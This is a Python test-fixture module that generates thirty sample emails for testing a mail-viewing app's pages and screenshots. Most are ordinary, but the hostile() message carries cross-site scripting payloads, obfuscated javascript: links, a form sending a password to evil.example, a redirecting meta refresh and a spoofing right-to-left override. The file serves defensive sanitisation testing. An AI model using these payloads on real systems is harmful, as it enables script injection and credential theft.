"""Mail for the tests of the pages and for screenshots, built by code: thirty ordinary and hostile messages."""

import zlib
from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import SMTP
from struct import pack

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n" + bytes(range(256)) * 8
ANN = "Ann Example <ann@example.com>"


def png(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
    """A PNG image of one colour."""
    rows = (b"\0" + bytes(colour) * width) * height

    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))

    head = pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def mail(
    subject: str | None,
    *,
    text: str | None = None,
    html: str | None = None,
    sender: str | None = "Acme <hello@acme.example>",
    to: str = ANN,
    **fields: str,
) -> EmailMessage:
    """A message; further fields by name with "_" for "-"."""
    message = EmailMessage(policy=SMTP.clone(utf8=False))
    if sender:
        message["From"] = sender
    message["To"] = to
    if subject is not None:
        message["Subject"] = subject
    for name, value in fields.items():
        message[name.replace("_", "-")] = value
    if text is not None:
        message.set_content(text)
    if html is not None:
        if text is None:
            message.set_content(html, subtype="html")
        else:
            message.add_alternative(html, subtype="html")
    return message


def page(title: str, body: str, *, head: str = "") -> str:
    """An HTML mail as templates make them."""
    return (
        f'<!DOCTYPE html><html lang="en"><head><title>{title}</title><style>'
        "body{font-family:Arial,sans-serif;margin:0;background:#f1f4f8;color:#1c2430}"
        ".card{max-width:560px;margin:24px auto;padding:28px;background:#fff}"
        ".button{display:inline-block;padding:12px 20px;background:#1b58cc;color:#fff;text-decoration:none}"
        f'</style>{head}</head><body><div class="card"><h1>{title}</h1>{body}</div></body></html>'
    )


def welcome() -> EmailMessage:
    return mail(
        "Welcome to Acme",
        text="Welcome, Ann.\n\nStart here: https://acme.example/start\n",
        html=page(
            "Welcome to Acme",
            '<p>Welcome, Ann.</p><p><a class="button" href="https://acme.example/start">Start</a></p>',
        ),
    )


def invoice() -> EmailMessage:
    message = mail("Invoice INV-2026-0042", text="Your invoice is attached.\n", sender="Billing <billing@acme.example>")
    message.add_attachment(PDF, "application", "pdf", filename="INV-2026-0042.pdf")
    return message


def report() -> EmailMessage:
    message = mail("Weekly report", text="Two files.\n", sender="Reports <reports@acme.example>")
    message.add_attachment("day,count\r\nMon,3\r\n", subtype="csv", filename="counts.csv")
    message.add_attachment(png(40, 30, (18, 103, 63)), "image", "png", filename="chart of the week.png")
    return message


def inline_images() -> EmailMessage:
    body = '<img src="cid:logo@acme.example" alt="Acme" width="60" height="40"> <img src="cid:gone" alt="missing">'
    message = mail("Inline image", text="An image.\n", html=page("Inline image", body))
    html = list(message.iter_parts())[1]
    html.add_related(png(60, 40, (200, 40, 40)), "image", "png", cid="<logo@acme.example>", filename="logo.png")
    return message


def newsletter() -> EmailMessage:
    body = (
        '<p>News of the week.</p><p><img src="https://images.acme.example/hero.png" alt="The new office" width="500" '
        'height="200"></p><img src="https://track.acme.example/o.gif" width="1" height="1" alt=""><p>'
        '<a href="https://acme.example/n/1">More</a></p>'
    )
    return mail(
        "Acme news, November",
        text="News of the week: https://acme.example/n/1\n",
        html=page("Acme news", body),
        sender="Acme News <news@list.acme.example>",
        to="list@example.com",
        List_Id="Acme news <news.list.acme.example>",
        List_Unsubscribe="<https://acme.example/u/1>, <mailto:leave@list.acme.example>",
        List_Unsubscribe_Post="List-Unsubscribe=One-Click",
    )


def dark_styles() -> EmailMessage:
    head = (
        '<meta name="color-scheme" content="light dark"><style>@media (prefers-color-scheme:dark)'
        "{body{background:rgb(1,2,3)!important;color:#eee!important}.card{background:#222!important}}</style>"
    )
    return mail(
        "Dark-mode styles", text="Light or dark.\n", html=page("Light or dark", "<p>Both are fine.</p>", head=head)
    )


def hostile() -> EmailMessage:
    body = (
        "<p>Pay now</p><script>document.title='owned';top.location='https://evil.example/'</script>"
        '<img src=x onerror="document.title=\'owned\'"><a href="javascript:alert(1)">Click</a>'
        '<a href="java&#10;script:alert(2)">here</a><a href="/api/v1/messages">inside</a>'
        '<form action="https://evil.example/steal"><input name="password" value="x"><button>Send</button></form>'
        '<iframe src="https://evil.example/f"></iframe><svg onload="document.title=\'owned\'"><script>1</script></svg>'
    )
    head = '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
    return mail(
        "<script>alert(1)</script> Your account \u202eis locked",
        text="Pay now\n",
        html=page("Act now", body, head=head),
        sender='"<img src=x onerror=alert(1)>" <attacker@evil.example>',
    )


def forwarded() -> EmailMessage:
    message = mail("Fwd: Welcome", text="See below.\n")
    message.add_attachment(welcome())
    return message


def calendar() -> EmailMessage:
    message = mail("Invitation: planning", text="Planning on Monday.\n")
    event = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nSUMMARY:Planning\r\n"
        "DTSTART;TZID=Europe/Paris:20261123T100000\r\nDTEND;TZID=Europe/Paris:20261123T110000\r\n"
        "LOCATION:Room 1\\, second floor\r\nORGANIZER;CN=Ben:mailto:ben@acme.example\r\nEND:VEVENT\r\n"
        "END:VCALENDAR\r\n"
    )
    message.add_alternative(event, subtype="calendar", params={"method": "REQUEST"})
    return message


def amp() -> EmailMessage:
    message = mail("With an AMP part", text="Plain.\n")
    message.add_alternative("<!doctype html><html amp4email><body>AMP</body></html>", subtype="x-amp-html")
    message.add_alternative(page("AMP", "<p>The HTML part.</p>"), subtype="html")
    return message


def thread() -> Iterator[EmailMessage]:
    for number in range(3):
        references = {"References": "<t0@acme.example>", "In_Reply_To": "<t0@acme.example>"} if number else {}
        yield mail(
            f"{'Re: ' if number else ''}Lunch on Friday",
            text=f"Answer {number}\n",
            Message_ID=f"<t{number}@acme.example>",
            **references,
        )


def nightly(number: int) -> EmailMessage:
    text = f"Build {number} failed.\n"
    return mail("Nightly build failed", text=text, to="builds@example.com", sender="CI <ci@example.com>")


def thirty() -> list[EmailMessage]:
    """The fixture set, oldest first."""
    code = mail(
        "Your sign-in code is 482913",
        text="Your code is 482913. It expires in 10 minutes.\n",
        html=page("Sign in", "<p>Your code is</p><p style='font-size:32px'>482913</p>"),
        sender="Acme Security <security@acme.example>",
    )
    reset = mail(
        "Reset your password",
        text="Reset it: https://acme.example/reset?token=3f9c1d2e4b5a69788796a5b4c3d2e1f0\n",
        html=page(
            "Reset your password", '<p><a class="button" href="https://acme.example/reset?token=3f9c1d2e">Reset</a></p>'
        ),
    )
    many = ", ".join(f"Person {number} <person{number}@example.com>" for number in range(60))
    wide = "<table width='1400'><tr>" + "".join(f"<td>Column {number}</td>" for number in range(20)) + "</tr></table>"
    anonymous = mail(None, text="No subject, no sender.\n", sender=None)
    return [
        welcome(),
        code,
        reset,
        invoice(),
        report(),
        inline_images(),
        newsletter(),
        mail("日本語の件名：ご注文の確認", text="ご注文ありがとうございます。\n", sender="受付 <uketsuke@example.jp>"),
        mail(
            "הזמנה חדשה",
            html='<html lang="he" dir="rtl"><body><p>שלום, ההזמנה שלך התקבלה.</p></body></html>',
            sender="חנות <shop@example.co.il>",
        ),
        mail("🎉 Party on Saturday 🎈", text="Bring cake 🍰.\n"),
        mail(
            "Plain text with a quote",
            text="> What time?\n\nAt ten: https://example.com/a?b=c (or www.example.com).\n",
        ),
        hostile(),
        anonymous,
        mail(
            "Hidden copy",
            text="Bcc and Reply-To.\n",
            Bcc="hidden@example.com",
            Reply_To="Support <support@acme.example>",
        ),
        mail("To sixty people", text="Hello all.\n", to=many),
        calendar(),
        *thread(),
        forwarded(),
        mail("A table of 1400 pixels", text="Wide.\n", html=wide),
        dark_styles(),
        mail(
            "Only HTML",
            html='<p style="color:#bbb">grey</p><img src="data:image/png;base64,iVBORw0KGgo=">'
            '<a href="https://example.com/">click here</a>',
        ),
        amp(),
        mail("A large one", html=page("Large", "<p>" + "lorem ipsum dolor " * 22_000 + "</p>")),
        mail("Tagged", text="With tags.\n", X_Tags="signup, staging"),
        mail("Grüße aus Köln, déjà vu", text="Schöne Grüße.\n", sender="Jörg Müller <joerg@example.de>"),
        mail(
            "Nightly build failed", text="Build 1041 failed.\n", to="builds@example.com", sender="CI <ci@example.com>"
        ),
        mail(
            "Nightly build failed", text="Build 1042 failed.\n", to="builds@example.com", sender="CI <ci@example.com>"
        ),
        mail("W" + "o" * 198 + "w", text="One long word.\n"),
    ]
